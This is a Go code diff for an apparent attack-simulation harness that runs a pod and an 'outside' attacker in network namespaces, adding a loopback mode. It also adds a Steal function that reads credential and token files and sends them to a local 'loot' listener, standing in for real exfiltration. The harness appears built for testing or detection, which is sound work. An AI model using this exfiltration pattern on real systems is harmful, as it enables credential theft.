@@ -17,6 +17,8 @@ import (
 	"path/filepath"
 	"strings"
 	"time"
+
+	"tourniquet.dev/tourniquet/dev/port"
 )
 
 // Addresses inside of the two namespaces; none of them is routed anywhere else.
@@ -47,7 +49,7 @@ type Options struct {
 	Dir      string // for files and sockets
 	Run      Runner
 	Book     Recorder
-	CgroupFS string // where the cgroup v2 tree is mounted
+	CgroupFS string // where the cgroup v2 tree is mounted; empty: there is no pod, only the outside, on loopback
 
 	PodUID, ContainerID, Namespace, KeyID string
 	// Paths of the files that the pod is given.
@@ -62,16 +64,21 @@ type Options struct {
 type Workload struct {
 	o        Options
 	pod, out string // network namespaces
+	loot     string // where the outside takes what is stolen
 	control  *http.Client
 }
 
 // Start starts the pod's process and the outside, and returns when data flows between them.
 func Start(ctx context.Context, o Options) (*Workload, error) {
-	w := &Workload{o: o, pod: "tourniquet-pod-" + o.Tag, out: "tourniquet-out-" + o.Tag}
+	w := &Workload{o: o, pod: "tourniquet-pod-" + o.Tag, out: "tourniquet-out-" + o.Tag, loot: net.JoinHostPort(peerIP, lootPort)}
 	w.control = &http.Client{Transport: &http.Transport{DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
 		return new(net.Dialer).DialContext(ctx, "unix", w.socket())
 	}}}
-	for _, step := range []func(context.Context) error{w.networks, w.metadata, w.gateway, w.outside, w.server} {
+	steps := []func(context.Context) error{w.networks, w.metadata, w.gateway, w.outside, w.server}
+	if o.CgroupFS == "" {
+		steps = []func(context.Context) error{w.loopback}
+	}
+	for _, step := range steps {
 		if err := step(ctx); err != nil {
 			return nil, fmt.Errorf("start workload: %w", err)
 		}
@@ -144,10 +151,44 @@ func (w *Workload) gateway(ctx context.Context) error {
 }
 
 func (w *Workload) outside(ctx context.Context) error {
-	return w.in(ctx, w.out, "outside", "outside", "-control", w.socket(), "-calls", w.Calls(),
-		"-stream", net.JoinHostPort(peerIP, streamPort), "-beacon", net.JoinHostPort(peerIP, beaconPort), "-loot", net.JoinHostPort(peerIP, lootPort),
-		"-loot-address", peerIP+"/"+lootPort, "-target", "http://"+net.JoinHostPort(PodIP, webPort), "-aws", "http://"+gatewayIP,
-		"-role", w.o.Role, "-kube", "https://"+gatewayIP, "-kube-ca", w.o.CA, "-namespace", w.o.Namespace)
+	args := append(w.attacker(), "-stream", net.JoinHostPort(peerIP, streamPort), "-beacon", net.JoinHostPort(peerIP, beaconPort),
+		"-loot-address", peerIP+"/"+lootPort, "-target", "http://"+net.JoinHostPort(PodIP, webPort), "-aws", "http://"+gatewayIP, "-kube", "https://"+gatewayIP)
+	return w.in(ctx, w.out, "outside", args...)
+}
+
+// attacker is what the outside is told however it runs.
+func (w *Workload) attacker() []string {
+	return []string{"outside", "-control", w.socket(), "-calls", w.Calls(), "-loot", w.loot, "-role", w.o.Role, "-kube-ca", w.o.CA, "-namespace", w.o.Namespace}
+}
+
+// loopback starts the outside alone, for whoever may make no namespaces.
+func (w *Workload) loopback(ctx context.Context) error {
+	free, err := port.Free(3)
+	if err != nil {
+		return err
+	}
+	w.loot = port.Addr(free[0])
+	_, err = w.o.Run.Run(ctx, "outside", w.o.Program, append(w.attacker(), "-stream", port.Addr(free[1]), "-beacon", port.Addr(free[2]), "-aws", w.o.AWS, "-kube", w.o.Kubernetes)...)
+	return err
+}
+
+// Steal brings the outside what the pod's shell would have sent: for an attack whose kernel events come from a recording.
+func (w *Workload) Steal(ctx context.Context) error {
+	c, err := new(net.Dialer).DialContext(ctx, "tcp", w.loot)
+	if err != nil {
+		return fmt.Errorf("bring the loot: %w", err)
+	}
+	defer c.Close()
+	for _, path := range []string{w.o.Credentials, w.o.Token} {
+		data, err := os.ReadFile(path) // #nosec G304 -- our own files
+		if err == nil {
+			_, err = c.Write(append(data, '\n'))
+		}
+		if err != nil {
+			return fmt.Errorf("bring the loot: %w", err)
+		}
+	}
+	return nil
 }
 
 // server makes the cgroup and starts the pod's process in it.
